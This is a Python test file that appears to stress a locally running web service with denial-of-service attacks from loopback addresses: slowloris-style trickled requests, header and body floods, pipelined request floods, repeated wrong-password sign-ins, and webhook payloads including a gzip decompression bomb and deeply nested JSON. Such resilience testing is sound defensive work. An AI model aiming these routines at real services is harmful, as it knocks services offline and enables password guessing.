"""Attacks on a running service, each by a process of its own, so that it measures nothing of them but the harm.

    python -m tests.attacks.attackers slow_heads 8484 TOKEN 1000 5

Everything stays on this machine: the senders are addresses of 127.0.0.0/8, and they end by themselves.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import sys
from collections.abc import Awaitable, Callable
from functools import partial

HOST = "127.0.0.1"
ELSEWHERE = [f"127.0.0.{number}" for number in range(2, 42)]
FEW = 4
PAUSE = 1.0
AT_ONCE, RAMP = 25, 0.01
"""Connections that are opened in one go, and seconds between two of those: all within half a second."""

Sender = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


class Attack:
    """Connections to one port, each of which is opened again when it is hung up on."""

    def __init__(self, port: int, token: str, many: int) -> None:
        self.port = port
        self.token = token
        self.many = many
        self.opened = 0

    async def begin(self, sender: Sender, count: int, sources: list[str]) -> None:
        async with asyncio.TaskGroup() as group:
            for number in range(count):
                group.create_task(self.repeat(sender, sources[number % len(sources)]))
                if number % AT_ONCE == 0:
                    await asyncio.sleep(RAMP)

    async def repeat(self, sender: Sender, source: str) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(HOST, self.port, local_addr=(source, 0))
                with contextlib.closing(writer):
                    self.say_when_ready()
                    await sender(reader, writer)
            await asyncio.sleep(PAUSE)

    def say_when_ready(self) -> None:
        """Whoever watches reads it, when there are as many connections as there are to be."""
        self.opened += 1
        if self.opened == max(self.many, 1):
            sys.stdout.write("ready\n")
            sys.stdout.flush()


# --- what is sent over a connection


async def say_nothing(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    await reader.read()


async def flood(
    begin: bytes, piece: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """As much as is taken, as fast as it is taken."""
    writer.write(begin)
    while not writer.is_closing() and not reader.at_eof():
        writer.write(piece)
        await writer.drain()


async def trickle(begin: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Hardly anything, for ever."""
    writer.write(begin)
    while not writer.is_closing() and not reader.at_eof():
        await asyncio.sleep(0.5)
        writer.write(b"x")
        await writer.drain()


async def ask(request: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """One request after another, each when the last one was answered."""
    while not writer.is_closing():
        writer.write(request)
        await writer.drain()
        if not await reader.read(65536):
            return


def head(target: str, *fields: str) -> bytes:
    lines = [f"POST {target} HTTP/1.1", "Host: x", *fields, "", ""]
    return "\r\n".join(lines).encode()


def whole(target: str, body: bytes, *fields: str) -> bytes:
    return head(target, f"Content-Length: {len(body)}", *fields) + body


LONG = f"Content-Length: {10**9}"
CHUNKED = "Transfer-Encoding: chunked"

# --- the attacks, by name


async def endless_heads(attack: Attack) -> None:
    sender = partial(flood, b"GET / HTTP/1.1\r\nX: ", b"a" * 100_000)
    await attack.begin(sender, FEW, [HOST, ELSEWHERE[0]])


async def endless_trailers(attack: Attack) -> None:
    begin = head("/sign-in", CHUNKED) + b"0\r\nX: "
    await attack.begin(partial(flood, begin, b"a" * 100_000), FEW, [HOST, ELSEWHERE[0]])


async def slow_heads(attack: Attack) -> None:
    await attack.begin(partial(trickle, b"GET / HTTP/1.1\r\nX: "), attack.many, [HOST, *ELSEWHERE])


async def slow_uploads(attack: Attack) -> None:
    await attack.begin(
        partial(trickle, head("/nowhere/api/v1/imports/", LONG)), attack.many, [HOST, *ELSEWHERE]
    )


async def slow_webhooks(attack: Attack) -> None:
    await attack.begin(partial(trickle, head("/webhooks/plex/wrong", LONG)), attack.many, [HOST, *ELSEWHERE])


async def slow_forms(attack: Attack) -> None:
    await attack.begin(partial(trickle, head("/sign-in", LONG)), attack.many, [HOST, *ELSEWHERE])


async def silence(attack: Attack) -> None:
    await attack.begin(say_nothing, attack.many, [HOST])


async def huge_bodies(attack: Attack) -> None:
    async with asyncio.TaskGroup() as group:
        for target in ("/nowhere", "/sign-in", "/webhooks/plex/wrong", "/api/v1/imports/trakt"):
            group.create_task(attack.begin(partial(flood, head(target, LONG), b"x" * 100_000), 2, ELSEWHERE))


async def pipelines(attack: Attack) -> None:
    request = b"GET /sign-in HTTP/1.1\r\nHost: x\r\n\r\n" * 500
    await attack.begin(partial(ask, request), FEW, [HOST, *ELSEWHERE])


async def guesses(attack: Attack) -> None:
    form = "Content-Type: application/x-www-form-urlencoded"
    request = whole("/sign-in", b"name=me&password=wrong", form)
    await attack.begin(partial(ask, request), attack.many, [HOST, *ELSEWHERE])


async def bombs(attack: Attack) -> None:
    """By somebody who knows an address."""
    target = f"/webhooks/generic/{attack.token}"
    zeros = whole(target, gzip.compress(b"0" * 30_000_000), "Content-Encoding: gzip")
    deep = whole(target, b'{"a":' * 200_000)
    escaped = whole(target, b"{&quot;a&quot;:&quot;" + b"&amp;" * 400_000 + b"&quot;}")
    async with asyncio.TaskGroup() as group:
        for request in (zeros, deep, escaped):
            group.create_task(attack.begin(partial(ask, request), 1, [HOST]))


FLOODS = (endless_heads, endless_trailers, huge_bodies, pipelines, bombs)
CROWDS = (slow_heads, slow_uploads, slow_webhooks, slow_forms, silence, guesses)
ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    attack.__name__: attack for attack in (*FLOODS, *CROWDS)
}


async def main(name: str, port: str, token: str, many: str, seconds: str) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(float(seconds)):
            await ATTACKS[name](Attack(int(port), token, int(many)))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
